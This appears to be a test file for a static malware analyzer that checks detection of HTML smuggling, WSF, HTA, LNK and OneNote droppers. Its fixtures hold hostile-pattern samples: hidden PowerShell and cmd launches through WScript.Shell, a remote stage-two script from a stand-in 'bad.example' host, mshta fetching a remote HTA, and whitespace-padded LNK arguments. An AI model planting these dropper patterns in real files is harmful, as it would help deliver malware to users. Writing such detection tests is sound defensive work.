// The other containers of the chains, through the engine with the real routing table: HTML smuggling, WSF,
// HTA, LNK and OneNote each hand their payload on as a child the next analyzer can read.

import assert from 'node:assert/strict';
import { test } from 'node:test';
import { analyzers } from '../src/analyzers/index.ts';
import { parseShortcut } from '../src/analyzers/lnk/parse.ts';
import { defaultConfig } from '../src/config.ts';
import { analyzeSubmission } from '../src/engine/submission.ts';
import { buildReport, type Report } from '../src/verdict/report.ts';
import { smuggledHtml, type SmugglingStyle } from './generators/archive-smuggling.ts';
import { makeShortcut } from './generators/lnk.ts';
import { makeOneNote } from './generators/onenote.ts';
import { makeZip } from './generators/zip.ts';

const JS = 'var sh = new ActiveXObject("WScript.Shell");\nsh.Run("cmd /c echo pwned");\n';
const VBS = 'Set sh = CreateObject("WScript.Shell")\nsh.Run "powershell -nop -w hidden -c calc", 0\n';

async function analyzeFile(name: string, data: string | Uint8Array): Promise<Report> {
  const bytes = typeof data === 'string' ? new TextEncoder().encode(data) : data;
  return buildReport(await analyzeSubmission({ name, data: bytes }, { config: defaultConfig(), analyzers }));
}

const childOf = (report: Report, parentId: string) => report.artifacts.filter((a) => a.parent === parentId);
const ids = (report: Report) => new Set(report.findings.map((f) => f.id));

for (const style of ['literal', 'pieces', 'reversed', 'data-uri', 'numbers'] as SmugglingStyle[]) {
  test(`HTML smuggling (${style}): the embedded ZIP is decoded statically and opened`, async () => {
    // A plain-text member keeps the test about smuggling (a script member would also run the JScript sandbox).
    const zip = await makeZip([{ name: 'Invoice.txt', data: 'Invoice 4411, amount due 1,200 EUR' }]);
    const report = await analyzeFile('Invoice.html', smuggledHtml(zip, 'Invoice.zip', style));
    assert.equal(report.input.kind, 'html');
    const decoded = report.artifacts.find((a) => a.relation === 'decoded' && a.parent === 'a1');
    assert.ok(decoded, JSON.stringify(report.artifacts));
    assert.equal(decoded.kind, 'zip');
    assert.ok(childOf(report, decoded.id).some((a) => a.name === 'Invoice.txt' && a.relation === 'extracted'));
    assert.ok(ids(report).has('smuggling.embedded-payload'));
  });
}

test('ordinary HTML with inline images and fonts is not smuggling', async () => {
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(2000, 7)]).toString('base64');
  const html = `<!DOCTYPE html><html><head><style>@font-face{src:url(data:font/woff2;base64,${Buffer.alloc(3000, 3).toString('base64')})}</style></head><body><img src="data:image/png;base64,${png}"><script>var token = "c2Vzc2lvbi10b2tlbi1mb3ItdGhlLW5ld3NsZXR0ZXItdHJhY2tpbmc=";</script></body></html>`;
  const report = await analyzeFile('newsletter.html', html);
  assert.ok(!report.findings.some((f) => f.id.startsWith('smuggling.')));
  assert.ok(!report.artifacts.some((a) => a.relation === 'decoded'));
});

test('WSF: each script block becomes a child of its language; a remote src becomes a link', async () => {
  const wsf = `<?xml version="1.0"?>\n<package><job id="invoice">\n<script language="JScript"><![CDATA[\n${JS}]]></script>\n<script language="VBScript">\n${VBS}</script>\n<script language="JScript" src="http://cdn.bad.example/stage2.js"/>\n</job></package>`;
  const report = await analyzeFile('invoice.wsf', wsf);
  assert.equal(report.input.kind, 'wsf');
  const scripts = childOf(report, 'a1').filter((a) => a.relation === 'script');
  assert.deepEqual(scripts.map((a) => a.kind).sort(), ['jscript', 'vbscript']);
  assert.ok(childOf(report, 'a1').some((a) => a.kind === 'url' && a.name === 'http://cdn.bad.example/stage2.js'));
  assert.ok(ids(report).has('wsf.windows-script-file'));
  assert.ok(ids(report).has('wsf.remote-script'));
});

test('HTA: VBScript block extracted, hidden window reported', async () => {
  const hta = `<html><head><HTA:APPLICATION ID="x" APPLICATIONNAME="Viewer" WINDOWSTATE="minimize" SHOWINTASKBAR="no" BORDER="none"/>\n<script language="VBScript">\n${VBS}self.close\n</script></head><body></body></html>`;
  const report = await analyzeFile('view.hta', hta);
  assert.equal(report.input.kind, 'hta');
  const script = childOf(report, 'a1').find((a) => a.relation === 'script')!;
  assert.equal(script.kind, 'vbscript');
  assert.ok(ids(report).has('hta.html-application'));
  assert.match(report.findings.find((f) => f.id === 'hta.hidden-window')!.evidence, /minimize/i);
});

test('LNK: target and arguments become the executed command; icon, folder and machine id are facts', async () => {
  const args = `${' '.repeat(300)}/c powershell -w hidden -enc SQBFAFgA`;
  const lnk = makeShortcut({
    target: 'C:\\Windows\\System32\\cmd.exe',
    arguments: args,
    workingDir: '%TEMP%',
    iconLocation: 'C:\\Program Files\\Microsoft\\Edge\\Application\\msedge.exe',
    machineId: 'desktop-qx12ab',
    showCommand: 7,
  });
  const report = await analyzeFile('Invoice.pdf.lnk', lnk);
  assert.equal(report.input.kind, 'lnk');
  const command = childOf(report, 'a1').find((a) => a.relation === 'executed-command')!;
  assert.equal(command.kind, 'cmdline');
  const facts = report.artifacts[0]!.facts as Record<string, unknown>;
  assert.equal(facts.target, 'C:\\Windows\\System32\\cmd.exe');
  assert.equal(facts.machineId, 'desktop-qx12ab');
  assert.equal(facts.workingDir, '%TEMP%');
  for (const id of ['lnk.runs-interpreter', 'lnk.hidden-arguments', 'lnk.disguised-icon', 'lnk.minimized']) assert.ok(ids(report).has(id), id);
});

test('LNK with only an environment-variable target, and a truncated LNK, are read without crashing', async () => {
  const env = parseShortcut(makeShortcut({ environmentTarget: '%windir%\\system32\\rundll32.exe', arguments: 'C:\\ProgramData\\x.dll,DllRegisterServer' }));
  assert.equal(env.environmentTarget, '%windir%\\system32\\rundll32.exe');
  const full = makeShortcut({ target: 'C:\\Windows\\System32\\mshta.exe', arguments: 'http://bad.example/x.hta' });
  for (const cut of [0x4c, 0x60, full.length - 10]) {
    const s = parseShortcut(full.subarray(0, cut));
    assert.ok(Array.isArray(s.problems));
  }
  const report = await analyzeFile('x.lnk', full.subarray(0, 0x60));
  assert.ok(ids(report).has('lnk.malformed'));
  assert.equal(report.errors.length, 0);
});

test('OneNote: embedded HTA and picture are carved; the HTA is flagged and analysed', async () => {
  const hta = `<html><head><hta:application windowstate="minimize"/><script language="VBScript">${VBS}</script></head></html>`;
  const png = Buffer.concat([Buffer.from('89504e470d0a1a0a', 'hex'), Buffer.alloc(500, 1)]);
  const one = makeOneNote([{ name: 'button.png', data: png }, { name: 'open.hta', data: hta }]);
  const report = await analyzeFile('Document.one', one);
  assert.equal(report.input.kind, 'onenote');
  const embedded = childOf(report, 'a1').filter((a) => a.relation === 'embedded');
  assert.deepEqual(embedded.map((a) => a.kind).sort(), ['hta', 'png']);
  assert.ok(ids(report).has('onenote.embedded-runnable'));
  assert.deepEqual((report.artifacts[0]!.facts as { fileNames: string[] }).fileNames.sort(), ['button.png', 'open.hta']);
  const htaArtifact = embedded.find((a) => a.kind === 'hta')!;
  assert.ok(childOf(report, htaArtifact.id).some((a) => a.kind === 'vbscript'));
});
